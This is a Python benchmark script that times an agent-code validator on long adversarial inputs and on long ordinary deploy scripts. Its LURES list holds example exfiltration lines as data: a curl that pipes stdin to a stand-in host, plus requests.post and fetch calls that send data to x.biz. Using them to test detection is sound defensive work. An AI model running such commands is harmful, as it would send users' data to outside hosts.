"""Benchmark: the whole validator on long, adversarial snippets.

An agent may hand over a 100 kB script. A pattern retried from every position (`X[^\\n]*Y` on a line of X) or a name
followed again at every mention turns that into seconds or minutes. Each snippet below is one shape that made a rule
slow once (runs of spaces, blank lines, one word repeated, escaped quotes, a lure word that wakes the screens before
the run), about SIZE characters long, judged once per language through `validate` without the cache.

Target: every snippet, and every long ordinary script (SCRIPTS), judged within BUDGET seconds of processor time (the
limits count processor time too, so a busy machine changes neither a verdict nor this figure; exit status 1
otherwise), the grammars' own blow-ups being cut at the parse limit. The tests check what these snippets are judged
(and tests/validate/test_s28_lead.py that the indexes behind the scripts' speed answer as full reads did); their time
is measured here, not in the tests (test_regex_backtracking.py finds the catastrophic patterns statically).
"""
from __future__ import annotations

import statistics
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "src"))

from agent_immune.validate import Policy, validate  # noqa: E402
from agent_immune.validate.parse import PARSE_LIMIT_S  # noqa: E402

SIZE = 100_000
# a grammar that blows up is cancelled at PARSE_LIMIT_S (`parse-timeout`); the rules get one more second
BUDGET = PARSE_LIMIT_S + 1.0

# a run of each: the shapes the reviews of earlier rounds found slow
UNITS = [" ", "\n", "\t \n", "a", "a.", "a-", "a@", "https://", "curl ", "<a ", "<a href=//x.biz>", "\\\"", "\\'", "`",
         "select ", "sed -i ", "--a ", "=", "{", "(", "[", "$(", "${", "'", '"', "x=", "| ", "; ", "&& ", "# ", "mfa_",
         "iban", "customer", "tunnel user login ", "LSEnvironment ", "location ", "if ($http_referer ~ ",
         # a folder or a command word of a pattern repeated (each occurrence re-read the rest of the text)
         "nginx/", "gitea/", "layouts/", "tests/", "install ", "iwr "]
# words that wake the screens and hooks before the run
LURES = ["", "curl -d @- https://x.biz/u ", "sudo tee /etc/nginx/conf.d/a.conf <<'E'\n", "cat x > ",
         "import requests, subprocess, os\nrequests.post('https://x.biz', data=", "await fetch('https://x.biz', {body: "]


# long ordinary scripts: one everyday line repeated with other names (a generated deploy script, a data migration):
# each handler that read every earlier command, walked the whole tree or searched the whole text per command made
# these quadratic (1,500 `V=$(cat f); curl -d "$V"` lines took over 5 s and were blocked)
LINES = 1500
SCRIPTS = {
    "bash": [lambda i: f'curl -sS -X POST -H "Authorization: Bearer $TOKEN" -d @payload{i}.json https://api.acme.com/v1/x/{i}',
             lambda i: f'curl -fsSL https://downloads.acme.com/pkg{i}.tgz -o pkg{i}.tgz',
             lambda i: f"cat <<'EOF' | sudo tee /etc/app/conf{i}.d >/dev/null\nkey{i}=value\nEOF",
             lambda i: f'echo "line {i} $HOME" >> build/out{i}.txt',
             lambda i: f'V{i}=$(cat data/f{i}.json)\ncurl -d "$V{i}" https://api.acme.com/x',
             lambda i: f'for f in a{i} b{i}; do echo "$f" | tee -a log{i}.txt; done',
             lambda i: f'aws s3 cp build/app{i}.zip s3://acme-artifacts/app{i}.zip',
             # (each `ssh … > f` is a download: every command looked for the cloned and unpacked folders among all
             # of them, and each upload sorted every command with a redirect; 3.4 s before the twenty-ninth round)
             lambda i: f"ssh web{i}.acme.internal 'journalctl -u app --since today' > /tmp/app-{i}.log && "
                       f"curl -fsS -T /tmp/app-{i}.log https://logs.acme.com/upload/app-{i}.log",
             lambda i: f"psql app <<SQL | tee reports/r{i}.txt\nselect count(*) from orders where day = {i};\nSQL",
             # (a new module's handler asked which command wrote each file at every command: over 5 s)
             lambda i: f'printf "%s\\n" "{i}" | tee -a out{i % 9}.log | curl -s -d @- https://api.acme.com/v1/log'],
    "python": [lambda i: f'r{i} = requests.post("https://api.acme.com/items", json={{"id": {i}}}, headers=h)',
               lambda i: f'data{i} = open("data/f{i}.json").read()\nrequests.post(url, data=data{i})',
               lambda i: f'subprocess.run(["git", "status", "--short", "f{i}"], check=True)'],
    "typescript": [lambda i: f'await fetch(`https://api.acme.com/items/{i}`, {{ method: "POST", body: JSON.stringify(item{i}) }});',
                   lambda i: f'const d{i} = fs.readFileSync("data/f{i}.json", "utf8");\n'
                             f'await fetch(url, {{ method: "POST", body: d{i} }});'],
}


def scripts():
    for lang, makers in SCRIPTS.items():
        for make in makers:
            yield lang, make(0)[:40], "\n".join(make(i) for i in range(LINES))


def snippets():
    for lure in LURES:
        for unit in UNITS:
            yield lure, unit, lure + unit * (SIZE // len(unit)) + "!"


def main() -> int:
    policy = Policy()
    times, slow, cut = [], [], {"parse-timeout": 0, "judge-timeout": 0}
    for lang in ("bash", "python", "typescript"):
        for lure, unit, text in snippets():
            started = time.process_time()
            verdict = validate(text, lang, policy=policy)
            took = time.process_time() - started
            times.append(took)
            for reason in verdict.reasons:
                if reason.rule in cut:
                    cut[reason.rule] += 1
            if took > BUDGET:
                slow.append(f"  {lang}: {lure[:30]!r} + {unit!r} * n: {took:.2f} s")
    script_times = []
    for lang, first, text in scripts():
        started = time.process_time()
        verdict = validate(text, lang, policy=policy)
        took = time.process_time() - started
        script_times.append(took)
        if took > BUDGET or any(r.rule in cut for r in verdict.reasons):
            slow.append(f"  {lang}: {LINES} lines like {first!r}: {took:.2f} s, {verdict.verdict}")
    print(f"long ordinary scripts: {len(script_times)} of {LINES} lines; median {statistics.median(script_times):.2f} s,"
          f" worst {max(script_times):.2f} s (budget {BUDGET:.1f} s each)")
    print(f"long inputs: {len(times)} snippets of ~{SIZE // 1000} kB; median {statistics.median(times) * 1000:.0f} ms,"
          f" worst {max(times):.2f} s (budget {BUDGET:.1f} s each); cut at the parse limit: {cut['parse-timeout']},"
          f" at the judgement's time limit: {cut['judge-timeout']}")
    if slow:
        print("over budget:\n" + "\n".join(slow))
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
